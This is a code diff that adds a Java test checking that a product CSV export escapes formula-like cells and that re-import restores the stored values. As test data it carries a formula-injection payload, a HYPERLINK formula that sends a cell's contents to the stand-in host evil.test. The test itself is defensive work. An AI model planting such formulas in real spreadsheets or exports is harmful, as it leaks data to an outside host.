@@ -89,6 +89,26 @@ abstract class ProductImportFlowsTest {
     }
 
     @Test
+    void a_cell_a_spreadsheet_would_run_is_exported_as_text_and_imported_back_as_it_was() throws IOException {
+        String m = marker();
+        String formula = "=HYPERLINK(\"http://evil.test/?\"&A1) " + m;
+        long id = addId(map(
+                "name", formula, "price", "1", "quantity", 1, "sku", "F-" + m, "description", "-1 for the neighbours"));
+
+        String export = new String(
+                http().get("/products/export/", fixture.owner.accessToken()).bytes(), UTF_8);
+        String row = java.util.Arrays.stream(export.split("\r\n"))
+                .filter(record -> record.startsWith("F-" + m))
+                .findFirst()
+                .orElseThrow();
+        assertThat(row).startsWith("F-" + m + ",\"'=HYPERLINK(").contains("'-1 for the neighbours");
+
+        Reply again = importCsv(HEADER + "\r\n" + row + "\r\n", Map.of());
+        assertReport(again, 200, "all_or_nothing", false, true, 0, 0, 1);
+        assertThat(detail(id).get("name").asText()).isEqualTo(formula);
+    }
+
+    @Test
     void all_or_nothing_applies_nothing_when_a_row_is_bad_and_lists_every_error() throws IOException {
         String m = marker();
         long kettle = addId(map("name", "Kettle " + m, "price", "10", "quantity", 1, "sku", "K-" + m));
